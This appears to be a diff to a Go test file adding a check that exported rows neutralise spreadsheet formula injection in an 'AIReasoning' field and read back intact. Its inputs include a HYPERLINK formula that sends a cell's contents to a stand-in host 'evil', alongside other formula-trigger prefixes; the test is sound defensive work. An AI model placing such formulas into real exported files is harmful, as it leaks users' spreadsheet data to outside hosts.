@@ -121,6 +121,29 @@ func TestAFileIsReadAsItWasWritten(t *testing.T) {
 	}
 }
 
+// What a table takes for a formula is a text to it, and the same when it is read
+// again.
+func TestNoReasonIsAFormula(t *testing.T) {
+	for _, reason := range []string{`=HYPERLINK("http://evil/?"&A1,"4")`, "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "'", "''", "it's 4", "", "é=1"} {
+		s := seen(Comparison)
+		r := s.Row()
+		r.AIReasoning = reason
+		fields := r.Fields()
+		if written := fields[12]; written != "" && strings.ContainsRune("=+-@\t", rune(written[0])) {
+			t.Errorf("%q is written as %q", reason, written)
+		}
+		if got, err := ParseRow(fields); err != nil || got.AIReasoning != reason {
+			t.Errorf("%q: read as %q, %v", reason, got.AIReasoning, err)
+		}
+	}
+	old := seen(Comparison)
+	fields := old.Row().Fields()
+	fields[12] = "'quoted' once"
+	if got, err := ParseRow(fields); err != nil || got.AIReasoning != fields[12] {
+		t.Errorf("of an older file: read as %q, %v", got.AIReasoning, err)
+	}
+}
+
 func TestWhatIsNoRowIsNamed(t *testing.T) {
 	header := strings.Join(Columns(), ",") + "\n"
 	good := strings.ReplaceAll(strings.Join(seen(Comparison).Row().Fields(), ","), "load, 6", "load 6")
